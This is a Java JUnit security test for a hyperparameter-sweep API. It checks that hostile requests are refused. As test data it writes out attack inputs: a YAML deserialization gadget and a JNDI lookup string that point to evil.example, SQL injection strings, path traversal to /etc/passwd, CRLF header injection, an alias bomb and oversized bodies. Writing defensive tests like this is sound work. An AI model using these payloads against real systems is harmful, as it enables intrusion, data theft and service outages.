package org.flatsweep.api.security;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.Socket;
import java.util.stream.Stream;
import org.flatsweep.api.ApiTest;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.MediaType;
import org.springframework.test.web.servlet.client.RestTestClient.ResponseSpec;
import tools.jackson.databind.json.JsonMapper;

/** What is sent to break the API or to cost it much is refused with problem details, before it costs anything. */
class HostileInputTest extends ApiTest {

    private static final String YAML = "application/yaml";
    private static final String JSON = "application/json";
    private static final int MANY = 100_000;

    @LocalServerPort
    private int port;

    static Stream<Arguments> definitions() {
        return Stream.of(
                Arguments.of("a grid of 10^12 trials", YAML, 422, "/", "at most 1000000", SIX_TRIALS.replace(
                        "rho: [0.05, 1e-1]", """
                        rho: {from: 0.01, to: 1, steps: 10000}, lr: {from: 0.01, to: 1, steps: 10000},
                                      momentum: {from: 0.1, to: 0.9, steps: 10000}""".strip())),
                Arguments.of("an axis of 10^9 values", YAML, 422, "/methods/1/grid/rho/steps", "10000",
                        SIX_TRIALS.replace("[0.05, 1e-1]", "{from: 0.01, to: 1, steps: 1000000000}")),
                Arguments.of("ten levels of ten aliases", YAML, 400, "", "aliases are not allowed", aliasBomb()),
                Arguments.of("a merged alias", YAML, 400, "", "aliases are not allowed", "a: &a {}\nb: {<<: *a}"),
                Arguments.of("a tag that names a class", YAML, 400, "", "tags are not allowed",
                        "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example\"]]"),
                Arguments.of("deep YAML", YAML, 400, "", "nested deeper than 50 levels", "[".repeat(MANY)),
                Arguments.of("deep YAML by indentation", YAML, 400, "", "nested deeper than 50 levels", indented(200)),
                Arguments.of("deep JSON", JSON, 400, "", "nesting depth", "[".repeat(MANY)),
                Arguments.of("deep JSON objects", JSON, 400, "", "nesting depth", "{\"a\":".repeat(MANY)),
                Arguments.of("a number of many digits", JSON, 400, "", "Number value length",
                        "{\"epochs\": " + "9".repeat(MANY) + "}"),
                Arguments.of("a number of many digits in YAML", YAML, 400, "", "longer than 100 characters",
                        "epochs: " + "9".repeat(MANY)),
                Arguments.of("a key many times", JSON, 400, "", "uplicate",
                        "{" + "\"seeds\": [0], ".repeat(MANY / 10) + "\"seeds\": [0]}"),
                Arguments.of("a path as the dataset", YAML, 422, "/dataset", "", dataset("../../etc/passwd")),
                Arguments.of("an absolute path", YAML, 422, "/dataset", "", dataset("/etc/passwd")),
                Arguments.of("an address", YAML, 422, "/dataset", "", dataset("file:///etc/passwd")),
                Arguments.of("a name that ends early", JSON, 422, "/dataset", "",
                        "{\"dataset\": \"digits\\u0000/..\"}"),
                Arguments.of("SQL as the dataset", YAML, 422, "/dataset", "",
                        dataset("\"digits'; drop table trial; --\"")),
                Arguments.of("SQL as a method", YAML, 422, "/methods/0/name", "",
                        SIX_TRIALS.replace("{name: sgd}", "{name: \"sgd' or '1' = '1\"}")),
                Arguments.of("a name with the character that ends strings", JSON, 422, "/name", "",
                        "{\"name\": \"a\\u0000b\"}"),
                Arguments.of("half a character", JSON, 422, "/name", "", "{\"name\": \"a\\ud800b\"}"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("definitions")
    void shouldRefuseADefinition(
            String what, String contentType, int status, String pointer, String reason, String definition) {
        for (String path : new String[] {"/api/v1/sweeps/preview", "/api/v1/sweeps"}) {
            String problem = expectProblem(http.post().uri(path).header("Content-Type", contentType)
                    .body(definition.getBytes(UTF_8)).exchange(), status);
            assertThat(problem).contains(reason).hasSizeLessThan(20_000);
            if (!pointer.isEmpty() && !pointer.equals("/")) {
                assertThat(problem).contains("\"pointer\":\"%s\"".formatted(pointer));
            }
        }
        assertThat(count("sweep")).isZero();
    }

    @ParameterizedTest
    @MethodSource("longValues")
    void shouldSayBackOnlyTheBeginningOfALongValue(String pointer, String value, String saidBack) {
        http.post().uri("/api/v1/sweeps/preview").contentType(MediaType.APPLICATION_JSON)
                .body("{\"%s\": %s}".formatted(pointer, value)).exchange()
                .expectStatus().isEqualTo(422)
                .expectBody().jsonPath("$.errors[?(@.pointer == '/%s')].value".formatted(pointer))
                .isEqualTo(saidBack);
    }

    static Stream<Arguments> longValues() {
        return Stream.of(
                Arguments.of("seeds", "[" + "7,".repeat(MANY) + "7]", "[" + "7,".repeat(99) + "7…"),
                Arguments.of("name", "\"" + "x".repeat(MANY) + "\"", "x".repeat(200) + "…"),
                Arguments.of("dataset", "\"" + "🙂".repeat(MANY) + "\"", "🙂".repeat(200) + "…"));
    }

    @Test
    void shouldKeepSqlInANameAsTheTextThatItIs() {
        String name = "'; drop table trial; -- \\'; $1 :id ${jndi:ldap://evil.example} <script>";
        long sweep = submit(SIX_TRIALS.replace("rho sweep", JsonMapper.shared().writeValueAsString(name)));

        http.get().uri("/api/v1/sweeps/{id}", sweep).exchange().expectStatus().isOk()
                .expectBody().jsonPath("$.name").isEqualTo(name);
        assertThat(count("trial")).isEqualTo(6);
    }

    @Test
    void shouldKeepSqlInAKeyAsTheTextThatItIs() {
        for (int i = 0; i < 2; i++) {
            http.post().uri("/api/v1/sweeps").header("Idempotency-Key", "' or true; delete from sweep; --")
                    .contentType(MediaType.APPLICATION_YAML).body(SIX_TRIALS).exchange()
                    .expectStatus().is2xxSuccessful();
        }
        assertThat(count("sweep")).isEqualTo(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "/api/v1/sweeps/1 or true", "/api/v1/sweeps/99999999999999999999", "/api/v1/sweeps/-",
        "/api/v1/sweeps?limit=1;drop table sweep", "/api/v1/sweeps?limit=999999999", "/api/v1/sweeps?before=' or ''='",
        "/api/v1/sweeps/1/trials?state=' or true --", "/api/v1/sweeps/1/trials?limit=1000000000",
        "/api/v1/sweeps/1/metrics?name=\0", "/api/v1/sweeps/1/metrics?name=' union select sha256 from access_token --",
        "/api/v1/sweeps/1/table?format=../../etc/passwd",
        "/api/v1/sweeps/1/export/pg_catalog.pg_authid", "/api/v1/sweeps/1/export/trials?format=sql",
        "/api/v1/sweeps/1/figures/..", "/api/v1/sweeps/1/figures/accuracy-against-rho?metric=' or true --",
        "/api/v1/sweeps/1/comparison/1 union select", "/api/v1/schedules/' or true --",
        "/api/v1/queue/history?hours=1e9"})
    void shouldRefuseInAnAddressWhatIsNotOfItsForm(String path) {
        submit(SIX_TRIALS);
        String problem = expectProblem(http.get().uri(builder -> {
            String[] parts = path.split("\\?", 2);
            builder.path(parts[0]);
            if (parts.length == 2) {
                String[] parameter = parts[1].split("=", 2);
                builder.queryParam(parameter[0], "{value}");
                return builder.build(parameter[1]);
            }
            return builder.build();
        }).exchange());
        assertThat(problem).doesNotContainIgnoringCase("PSQLException", "SQL [", "org.postgresql", "syntax error");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "/api/v1/../../etc/passwd", "/api/v1/%2e%2e/%2e%2e/etc/passwd", "/assets/..%2f..%2fapplication.yaml",
        "/assets/%252e%252e/application.yaml", "//evil.example/..", "/api/v1/sweeps;x=y", "/api/v1/sweeps/%00",
        "/assets/..\\..\\application.yaml", "/api/v1/sweeps%0d%0aSet-Cookie:x=y"})
    void shouldRefuseAPathThatMeansAnother(String path) throws IOException {
        assertThat(statusOf("GET " + path + " HTTP/1.1\r\n")).isEqualTo(400);
    }

    @ParameterizedTest
    @CsvSource({
        "POST, /api/v1/sweeps, application/yaml, 104857600, 413",
        "POST, /api/v1/sweeps/preview, application/json, 1048577, 413",
        "POST, /api/v1/schedules, application/json, 104857600, 413",
        "PUT, /api/v1/sweeps/1/priority, application/json, 65537, 413",
        "POST, /api/v1/tokens, application/json, 104857600, 413",
        "POST, /api/v1/session, application/json, 104857600, 413",
        "POST, /api/v1/sweeps/1/cancel, application/json, 104857600, 413",
        "POST, /api/v1/sweeps/import, application/zip, 1099511627776, 413"})
    void shouldRefuseALargeBodyBeforeAnyOfItHasCome(
            String method, String path, String contentType, long bytes, int status) throws IOException {
        assertThat(statusOf("%s %s HTTP/1.1\r\nContent-Type: %s\r\nContent-Length: %d\r\n"
                .formatted(method, path, contentType, bytes))).isEqualTo(status);
    }

    @Test
    void shouldNotReadASmallBodyThatDoesNotSayWhereItEnds() throws IOException {
        assertThat(statusOf("PUT /api/v1/sweeps/1/priority HTTP/1.1\r\nContent-Type: application/json\r\n"
                + "Transfer-Encoding: chunked\r\n")).isEqualTo(411);
    }

    @ParameterizedTest
    @MethodSource("smallBodies")
    void shouldRefuseASmallBodyThatIsNotOfItsForm(String body) {
        submit(SIX_TRIALS);
        expectProblem(http.put().uri("/api/v1/sweeps/1/priority").contentType(MediaType.APPLICATION_JSON)
                .body(body).exchange());
    }

    static Stream<String> smallBodies() {
        return Stream.of("[".repeat(MANY / 2), "{\"priority\": {\"a\": 1}}", "{\"priority\": 1e999999999}", "\0",
                "{\"priority\": \"' or 1\"}");
    }

    @ParameterizedTest
    @ValueSource(strings = {"TRACE", "CONNECT", "DEBUG", "SELECT"})
    void shouldRefuseAMethodThatNobodyNeeds(String method) throws IOException {
        assertThat(statusOf(method + " /api/v1/sweeps HTTP/1.1\r\n")).isIn(400, 405, 501);
    }

    @AfterEach
    void shouldBeThereStill() {
        http.get().uri("/api/v1/sweeps").exchange().expectStatus().isOk();
        assertThat(count("pg_tables where tablename in ('sweep', 'trial', 'access_token')")).isEqualTo(3);
    }

    private String expectProblem(ResponseSpec response) {
        String body = response.expectStatus().is4xxClientError()
                .expectHeader().contentType(MediaType.APPLICATION_PROBLEM_JSON)
                .returnResult(String.class).getResponseBody();
        assertThat(body).contains("\"detail\":");
        return body;
    }

    private String expectProblem(ResponseSpec response, int status) {
        response.expectStatus().isEqualTo(status);
        return expectProblem(response);
    }

    /** Of a request as it is written here, of which nothing more comes. */
    private int statusOf(String head) throws IOException {
        try (Socket client = new Socket("127.0.0.1", port)) {
            client.getOutputStream().write((head + "Host: localhost\r\nConnection: close\r\n\r\n").getBytes(UTF_8));
            String answer = new String(client.getInputStream().readNBytes(12), UTF_8);
            return Integer.parseInt(answer.split(" ")[1]);
        }
    }

    private static String dataset(String name) {
        return SIX_TRIALS.replace("dataset: digits", "dataset: " + name);
    }

    private static String aliasBomb() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 10; i++) {
            yaml.append("a%d: &a%d [%s]\n".formatted(i, i, "*a%d, ".formatted(i - 1).repeat(10)));
        }
        return yaml.toString();
    }

    private static String indented(int levels) {
        StringBuilder yaml = new StringBuilder();
        for (int i = 0; i < levels; i++) {
            yaml.append(" ".repeat(i)).append("a:\n");
        }
        return yaml.toString();
    }
}
